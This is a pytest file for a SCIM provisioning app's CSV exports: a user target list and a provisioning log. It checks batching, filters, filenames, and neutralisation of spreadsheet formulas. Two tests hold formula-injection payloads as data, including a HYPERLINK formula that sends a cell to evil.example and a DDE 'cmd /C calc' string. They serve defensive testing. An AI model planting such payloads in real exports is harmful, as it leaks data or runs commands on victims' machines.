"""CSV exports: the users as a campaign's target list and the provisioning log, streamed in
batches, with every cell that could start a spreadsheet formula neutralised."""
import csv
import io

import pytest

from jericho.extensions import db
from jericho.security import IdCipher
from jericho.status import exports
from jericho.status.filters import UserFilters
from jericho.storage.models import Organization

from status_helpers import ENTERPRISE, admin, deactivate, lookup, provision_group, provision_user  # noqa: F401 (fixtures)


def rows(response) -> list[dict]:
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


# --- neutralising cells ---------------------------------------------------------------------

@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"),
    ("+1 425 555 1000", "'+1 425 555 1000"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=cmd", "'\t=cmd"),
    ("\r=cmd", "'\r=cmd"),
    ("  =HYPERLINK(\"http://x\")", "'  =HYPERLINK(\"http://x\")"),
    ("ava@contoso.com", "ava@contoso.com"),
    ("Ava = CFO", "Ava = CFO"),
    ("", ""),
    (None, ""),
    (42, "42"),
])
def test_neutralise(value, cell):
    assert exports.neutralise(value) == cell


def test_csv_text_neutralises_every_cell_and_ends_lines_with_crlf():
    assert exports.csv_text([["a", "=b"], ["c,d", '"e"']]) == "a,'=b\r\n\"c,d\",\"\"\"e\"\"\"\r\n"


@pytest.mark.parametrize("name, expected", [
    ("Contoso", "jericho-users-contoso-2026-11-30.csv"),
    ('Ac"me\r\nX: Ltd', "jericho-users-ac-me--x--ltd-2026-11-30.csv"),
    ("Åland", "jericho-users-land-2026-11-30.csv"),
    ("***", "jericho-users-organization-2026-11-30.csv"),
])
def test_filenames_carry_only_safe_characters(name, expected):
    from datetime import datetime
    assert exports.filename("users", name, datetime(2026, 11, 30)) == expected


# --- users ----------------------------------------------------------------------------------

@pytest.fixture
def directory(scim):
    boss = provision_user(scim, "boss@contoso.com", displayName="The Boss",
                          name={"givenName": "Tess", "familyName": "Boss"}, title="CEO")
    ava = provision_user(scim, "ava@contoso.com", displayName="Ava Lindqvist",
                         name={"givenName": "Ava", "familyName": "Lindqvist"}, title="Analyst",
                         **{ENTERPRISE: {"department": "Finance", "manager": boss["id"]}})
    old = provision_user(scim, "old@contoso.com")
    provision_group(scim, "Finance", [ava["id"], boss["id"]])
    provision_group(scim, "All staff", [ava["id"]])
    deactivate(scim, old["id"])
    return {"boss": boss, "ava": ava, "old": old}


def test_the_users_export_is_a_campaign_target_list(admin, directory):
    response = admin.get("/status/export/users.csv")
    assert response.is_streamed
    assert response.mimetype == "text/csv" and response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="jericho-users-contoso-')
    exported = rows(response)
    assert list(exported[0]) == list(exports.USER_COLUMNS)
    ava = exported[0]
    assert {key: ava[key] for key in exports.USER_COLUMNS[:-1]} == {
        "userName": "ava@contoso.com", "email": "ava@contoso.com", "name": "Ava Lindqvist", "givenName": "Ava",
        "familyName": "Lindqvist", "title": "Analyst", "department": "Finance", "manager": "boss@contoso.com",
        "active": "true", "groups": "All staff; Finance",
    }
    assert ava["id"] == directory["ava"]["id"]
    assert [(row["userName"], row["active"]) for row in exported] == [
        ("ava@contoso.com", "true"), ("boss@contoso.com", "true"), ("old@contoso.com", "false")]


def test_the_users_export_follows_the_filters(admin, directory):
    assert [r["userName"] for r in rows(admin.get("/status/export/users.csv?state=active"))] == [
        "ava@contoso.com", "boss@contoso.com"]
    assert [r["userName"] for r in rows(admin.get("/status/export/users.csv?q=lindqvist"))] == ["ava@contoso.com"]
    assert 'href="/status/export/users.csv"' in admin.get("/status/users").get_data(as_text=True)
    page = admin.get("/status/users?state=active&sort=-name&page=2").get_data(as_text=True)
    assert 'href="/status/export/users.csv?state=active"' in page  # all pages, in userName order


def test_a_groups_members_export(admin, scim, directory):
    group = scim.get("/Groups?filter=displayName+eq+%22All+staff%22").get_json()["Resources"][0]
    assert f'href="/status/export/users.csv?group={group["id"]}"' in admin.get(
        f"/status/groups/{group['id']}").get_data(as_text=True)
    assert [r["userName"] for r in rows(admin.get(f"/status/export/users.csv?group={group['id']}"))] == [
        "ava@contoso.com"]


def test_hostile_values_cannot_become_formulas(admin, scim):
    provision_user(scim, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")@contoso.com",
                   displayName="@SUM(1+1)*cmd|' /C calc'!A0",
                   name={"givenName": "+1+1", "familyName": "-2"},
                   **{ENTERPRISE: {"department": "\t=1+1"}})
    provision_group(scim, "=cmd|'/C calc'!A0")
    users = scim.get("/Users").get_json()["Resources"]
    group = scim.get("/Groups").get_json()["Resources"][0]
    scim.patch(f"/Groups/{group['id']}", json={"Operations": [
        {"op": "Add", "path": "members", "value": [{"value": users[0]["id"]}]}]})
    (row,) = rows(admin.get("/status/export/users.csv"))
    assert row["userName"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")@contoso.com"
    assert row["name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert (row["givenName"], row["familyName"], row["department"]) == ("'+1+1", "'-2", "'\t=1+1")
    assert row["groups"] == "'=cmd|'/C calc'!A0"
    for record in rows(admin.get("/status/export/log.csv")):
        for cell in record.values():
            assert not cell.lstrip(" ").startswith(exports.FORMULA_STARTS), cell


def test_the_users_export_reads_in_batches_each_in_a_context_of_its_own(app, admin, scim, monkeypatch):
    monkeypatch.setattr(exports, "BATCH_SIZE", 3)
    boss = provision_user(scim, "boss@contoso.com")
    group = provision_group(scim, "Everyone")
    created = [scim.post("/Users", json={"userName": f"u{n:02}@contoso.com", ENTERPRISE: {"manager": boss["id"]}})
               .get_json() for n in range(10)]
    scim.patch(f"/Groups/{group['id']}", json={"Operations": [
        {"op": "Add", "path": "members", "value": [{"value": user["id"]} for user in created]}]})
    with app.app_context():
        organization_id = db.session.execute(db.select(Organization.id)).scalar_one()
        engine = db.engine
    statements = []
    count = lambda *args: statements.append(args[2])  # noqa: E731
    db.event.listen(engine, "before_cursor_execute", count)
    try:
        chunks = list(exports.users_csv(app, organization_id, UserFilters()))
    finally:
        db.event.remove(engine, "before_cursor_execute", count)
    assert len(chunks) == 1 + 4  # the header, then one per batch of 3
    exported = list(csv.DictReader(io.StringIO("".join(chunks)[1:])))
    assert len(exported) == 11
    assert (exported[1]["userName"], exported[1]["manager"], exported[1]["groups"]) == (
        "u00@contoso.com", "boss@contoso.com", "Everyone")
    selects = [statement for statement in statements if statement.lstrip().startswith("SELECT")]
    assert len(selects) == 4 * 3  # per batch: the users, their managers, their groups


def test_a_download_stopped_half_way_holds_nothing(app, admin, scim, monkeypatch):
    monkeypatch.setattr(exports, "BATCH_SIZE", 1)
    for number in range(3):
        provision_user(scim, f"u{number}@contoso.com")
    response = admin.get("/status/export/users.csv")
    assert response.is_streamed
    next(iter(response.response))  # only the header read, then dropped unread
    next(iter(response.response))
    assert admin.get("/status/users").status_code == 200  # no context left pushed
    assert len(rows(admin.get("/status/export/log.csv"))) == 6


# --- the log --------------------------------------------------------------------------------

def test_the_log_export_oldest_first_with_the_filters(app, admin, client, scim, directory):
    client.get("/scim_v2/Users", headers={"Authorization": "Bearer mistyped"})  # no organization's
    assert scim.post("/Users", json={"userName": "BOSS@contoso.com"}).status_code == 409
    exported = rows(admin.get("/status/export/log.csv"))
    assert list(exported[0]) == list(exports.LOG_COLUMNS)
    assert exported[0]["action"] == "look up user boss@contoso.com"
    assert exported[-1]["status"] == "409" and "rejected: unknown token" not in [r["action"] for r in exported]
    ids = [IdCipher(app.config["SECRET_KEY"]).reveal(r["id"]) for r in exported]  # the ids admins see
    assert ids == sorted(ids) and None not in ids
    first = exported[1]
    assert (first["outcome"], first["status"], first["method"], first["path"], first["operation"],
            first["objectType"]) == ("succeeded", "201", "POST", "/scim_v2/Users", "create", "User")
    assert first["objectId"] == directory["boss"]["id"] and first["time"].endswith("Z")
    disabled = rows(admin.get("/status/export/log.csv?operation=disable"))
    assert [r["action"] for r in disabled] == ["disable user old@contoso.com"]
    failed = rows(admin.get("/status/export/log.csv?outcome=failed"))
    assert [(r["outcome"], r["status"]) for r in failed] == [("failed", "409")]
    assert admin.get("/status/export/log.csv").headers["Content-Disposition"].startswith(
        'attachment; filename="jericho-log-contoso-')
    assert 'href="/status/export/log.csv?operation=disable"' in admin.get(
        "/status/log?operation=disable").get_data(as_text=True)


def test_the_log_export_in_batches(admin, client, scim, monkeypatch):
    monkeypatch.setattr(exports, "BATCH_SIZE", 2)
    for number in range(3):
        lookup(scim, f"u{number}@contoso.com")
        client.get("/scim_v2/Users", headers={"Authorization": "Bearer mistyped"})
    exported = rows(admin.get("/status/export/log.csv"))
    assert [r["action"] for r in exported] == [
        "look up user u0@contoso.com", "look up user u1@contoso.com", "look up user u2@contoso.com"]
